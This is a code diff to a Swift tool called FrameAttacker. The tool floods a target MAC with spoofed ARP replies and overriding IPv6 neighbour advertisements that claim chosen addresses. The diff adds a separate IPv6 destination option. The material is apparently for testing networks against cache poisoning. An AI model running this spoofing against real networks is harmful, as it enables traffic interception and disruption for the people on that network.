@@ -196,7 +196,8 @@ struct FrameAttacker: AsyncParsableCommand {
     @Option var interface = "eth0"
     @Option(help: "IPv4 address to claim with ARP replies.") var ipv4: String?
     @Option(help: "IPv6 address to claim with neighbour advertisements.") var ipv6: String?
-    @Option(help: "The owner's MAC.") var to: String
+    @Option(help: "The IPv4 address's owner's MAC.") var to: String
+    @Option(help: "The IPv6 address's owner's MAC (default: --to).") var to6: String?
     @Option var count = 100_000
     @Option(help: "Frames per second.") var rate = 20_000
 
@@ -205,6 +206,7 @@ struct FrameAttacker: AsyncParsableCommand {
         let macText = try String(contentsOfFile: "/sys/class/net/\(interface)/address", encoding: .utf8)
         let endpoint = LinkEndpoint(name: interface, index: index, mac: try MACAddress(macText.trimmingCharacters(in: .whitespacesAndNewlines)))
         let owner = try MACAddress(to)
+        let owner6 = try to6.map { try MACAddress($0) } ?? owner
         let v4 = try ipv4.map { try IPv4Address($0) }
         let v6 = try ipv6.map { try IPv6Address($0) }
         guard v4 != nil || v6 != nil else { throw ValidationError("give --ipv4 or --ipv6") }
@@ -229,11 +231,11 @@ struct FrameAttacker: AsyncParsableCommand {
                     let lladdr = try IPv6Address("fe80::\(String(mac.octets.4, radix: 16)):\(String(mac.octets.5, radix: 16))")
                     let na = NDPPacket(source: lladdr, destination: NDP.allNodes, message: .neighborAdvertisement(
                         NeighborAdvertisement(solicited: false, override: true, target: v6!, targetLinkLayer: mac)))
-                    frame = na.frame(from: mac, to: owner)
+                    frame = na.frame(from: mac, to: owner6)
                 }
                 var b = ByteBuffer()
                 var f = frame
-                f.destination = owner
+                f.destination = frame.etherType == EtherType.arp ? owner : owner6
                 _ = f.encode(into: &b)
                 frames.append(b)
                 n += 1
